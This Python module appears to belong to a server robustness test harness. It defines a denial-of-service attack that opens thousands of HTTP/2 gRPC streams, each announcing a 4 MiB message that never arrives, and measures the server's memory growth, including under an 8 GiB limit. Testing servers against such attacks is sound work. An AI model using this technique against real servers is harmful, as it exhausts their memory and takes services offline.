"""Messages that are announced and never arrive: five bytes say that 4 MiB will follow."""
import resource

from .. import http2
from ..calls import open_first_call
from ..ground import Attack, Ended, Ground
from ..server import Needs

_CONNECTIONS, _EACH = 9, 1_000
_ANNOUNCED = 4 * 1024 * 1024 - 1
_GIBIBYTE = 1 << 30
_LIMIT = 8 * _GIBIBYTE
_FIELDS = http2.Fields("/echo.v1.Echo/Collect")


def _run(ground: Ground) -> str:
    prefix = http2.message(b"")[:1] + _ANNOUNCED.to_bytes(4, "big")
    before = ground.server.memory()
    try:
        for _ in range(_CONNECTIONS):
            connection = ground.connect()
            open_first_call(connection, _FIELDS)
            frames = [http2.frame(http2.DATA, 0, 1, prefix)]
            for _ in range(_EACH - 1):
                stream = connection.take_stream()
                frames.append(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, _FIELDS.again))
                frames.append(http2.frame(http2.DATA, 0, stream, prefix))
            connection.send(b"".join(frames))
            connection.ping()
    except (Ended, OSError) as error:
        if not ground.server.is_alive:
            raise
        return f"after {len(ground.connections)} connections: {error}"
    after = ground.server.memory()
    return (f"address space {before.mapped / 1024:.1f} → {after.mapped / 1024:.1f} GiB "
            f"for {_CONNECTIONS * _EACH:,} streams")


ATTACKS = [
    Attack("announced", "announced lengths", _run),
    Attack("announced-limited", "announced lengths, 8 GiB of address space", _run,
           Needs(limits={resource.RLIMIT_AS: _LIMIT}))]
